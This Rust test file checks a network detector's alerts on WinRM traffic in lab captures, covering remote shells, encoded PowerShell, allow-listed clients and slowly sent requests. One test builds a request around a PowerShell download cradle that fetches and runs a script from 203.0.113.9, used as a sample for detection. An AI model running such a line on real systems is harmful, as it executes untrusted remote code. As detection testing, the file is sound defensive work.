//! WinRM from the packets to the records: the captures of the lab, and what a listed host may do.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, reason = "tests")]

mod common;

use std::collections::BTreeMap;

use backstop_testkit::pcap::{ETHERNET, PcapWriter};
use backstop_testkit::{Conversation, winrm};
use backstop_types::{Direction, Endpoint, PacketTime};
use common::{alert_counts, of_type, records, replay, schema, shared, top};
use serde_json::Value;

/// What the manifest of the lab captures expects: a shell, and the encoded command with its script.
#[test]
fn the_shell_and_the_encoded_command_are_told() {
    let Some(folder) = shared("captures/lateral") else { return };
    let records = records(&replay(&folder.join("w1_winrm_basic.pcap"), &[]));
    schema::assert_all_fit(&records);
    assert_eq!(alert_counts(&records), BTreeMap::from([(9_403_004, 1), (9_404_006, 2)]));
    for alert in of_type(&records, "alert") {
        assert_eq!(
            (&alert["alert"]["source"]["ip"], &alert["alert"]["target"]["ip"]),
            (&"10.20.30.41".into(), &"10.20.30.10".into())
        );
        assert_eq!((&alert["http"]["url"], &alert["app_proto"]), (&"/wsman".into(), &"http".into()));
        assert_eq!(alert["alert"]["metadata"]["outcome"][0], "success");
    }
    let of = |sid: u64| -> Vec<&Value> {
        of_type(&records, "alert").into_iter().filter(|alert| alert["alert"]["signature_id"] == sid).collect()
    };
    let (shell, script) = (of(9_404_006), of(9_403_004));
    assert_eq!((&shell[0]["alert"]["severity"], &shell[1]["alert"]["severity"]), (&1.into(), &2.into()));
    assert_eq!(shell[0]["alert"]["metadata"]["mitre_technique_id"][0], "T1021.006");
    assert_eq!(shell[1]["alert"]["context"]["winrm"]["command"], "whoami");
    assert_eq!(script[0]["alert"]["context"]["powershell"]["script"], "Write-Output 'inert check alpha'; whoami");
    let text: String = records.iter().map(Value::to_string).collect();
    assert!(text.contains("\"user\":\"Administrator\"") && !text.contains("Inert-Pass"));
}

#[test]
fn a_listed_host_may_run_encoded_commands() {
    let file = top().join("pcaps/winrm/w1_winrm_basic/input.pcap");
    let records = records(&replay(&file, &["--set", "known_clients=10.20.30.41"]));
    assert_eq!(alert_counts(&records), BTreeMap::new());
    assert!(of_type(&records, "winrm").iter().any(|record| record["winrm"]["commands"][0]["text"] == "whoami"));
}

#[test]
fn an_encrypted_session_is_suspected_of_backup_servers_only() {
    let file = top().join("pcaps/winrm/p1_pypsrp/input.pcap");
    let sessions = |options: &[&str]| {
        let records = records(&replay(&file, options));
        let alerts = of_type(&records, "alert").into_iter().filter(|alert| alert["alert"]["severity"] == 3);
        alerts.map(|alert| alert["alert"]["metadata"]["suspected"][0].clone()).collect::<Vec<_>>()
    };
    assert_eq!(sessions(&["--set", "backup_servers=10.20.30.10"]), ["true"]);
    assert!(sessions(&[]).is_empty());
    assert!(sessions(&["--set", "backup_servers=10.20.30.10", "--set", "known_clients=10.20.30.41"]).is_empty());
}

/// Bytes of a request that come one by one, some milliseconds apart: the raw stream is looked at before the command is whole.
#[test]
fn a_command_that_arrives_slowly_is_told_once() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("slow.pcap");
    let mut out = PcapWriter::new(std::fs::File::create(&path).unwrap(), ETHERNET).unwrap();
    let end = |address: &str, port: u16| Endpoint::new(address.parse().unwrap(), port);
    let mut talk = Conversation::new(end("10.20.30.41", 40_000), end("10.20.30.10", 5_985), (1, 1));
    let line = "powershell -nop -c \"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
    let request = winrm::post("", &winrm::command(&format!("<rsp:Command>{line}</rsp:Command>")));
    let mut segments = talk.handshake();
    segments.extend(talk.data_in(Direction::ToServer, &request, &vec![24; request.len() / 24]));
    segments.extend(talk.data(Direction::ToClient, &winrm::command_response("1")));
    segments.extend(talk.close(Direction::ToServer));
    for (number, segment) in segments.iter().enumerate() {
        let time = PacketTime::from_micros(1_768_384_800_000_000 + number as u64 * 20_000);
        out.write(time, &talk.frame(segment)).unwrap();
    }
    out.finish().unwrap();
    assert_eq!(alert_counts(&records(&replay(&path, &[]))), BTreeMap::from([(9_403_003, 1), (9_404_006, 1)]));
}
